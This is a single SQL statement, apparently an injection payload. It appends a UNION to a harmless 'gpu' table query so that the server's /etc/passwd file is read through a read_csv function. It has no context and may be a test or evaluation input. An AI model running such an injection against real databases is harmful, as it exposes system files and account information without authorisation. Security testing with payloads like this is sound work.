SELECT name FROM gpu UNION ALL SELECT * FROM read_csv('/etc/passwd')
